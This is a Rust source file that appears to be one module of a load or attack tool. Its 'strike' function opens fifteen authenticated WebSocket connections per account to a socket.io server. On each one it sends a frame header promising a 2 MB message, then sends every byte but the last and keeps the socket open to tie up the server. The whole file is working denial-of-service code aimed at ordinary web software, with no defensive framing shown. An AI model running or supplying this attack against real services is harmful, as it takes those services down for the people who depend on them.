//! Messages of 2 MB after CONNECT that never end, over several sockets of an account.

use crate::{
    settings::Result,
    tally::Tally,
    target::{Target, account_address, endpoint},
};
use futures_util::{SinkExt, StreamExt};
use serde_json::json;
use std::time::Duration;
use tokio::{io::AsyncWriteExt, time::timeout};
use tokio_tungstenite::{client_async, tungstenite::Message};

const SOCKETS: usize = 15;

const MESSAGE_BYTES: u32 = 2_000_000;

const PATIENCE: Duration = Duration::from_mins(2);

pub async fn strike(target: &Target, number: usize, tally: &Tally) -> Result<()> {
    let token = target.token(number)?;
    let mut sockets = Vec::new();
    for _ in 0..SOCKETS {
        let stream = endpoint(target.api, account_address(number)).open().await?;
        let url = format!("ws://{}/socket.io/?EIO=4&transport=websocket", target.api);
        let (mut socket, _) = client_async(url, stream).await?;
        socket
            .send(Message::text(format!("40{}", json!({ "token": token }))))
            .await?;
        while !socket
            .next()
            .await
            .ok_or("cut")??
            .to_string()
            .starts_with("42")
        {}
        let length = u64::from(MESSAGE_BYTES).to_be_bytes();
        let head = [&[0x81, 0xff][..], &length, &[0; 4]].concat();
        socket.get_mut().write_all(&head).await?;
        tally.add_done();
        sockets.push(socket);
    }
    let rest = vec![b'4'; MESSAGE_BYTES as usize - 1];
    let leave_unfinished = async |mut socket: tokio_tungstenite::WebSocketStream<_>| {
        let stream: &mut tokio::net::TcpStream = socket.get_mut();
        stream.write_all(&rest).await?;
        while let Some(Ok(_)) = socket.next().await {}
        Ok::<_, std::io::Error>(())
    };
    let unfinished = futures_util::future::join_all(sockets.into_iter().map(leave_unfinished));
    timeout(PATIENCE, unfinished).await?;
    Ok(())
}
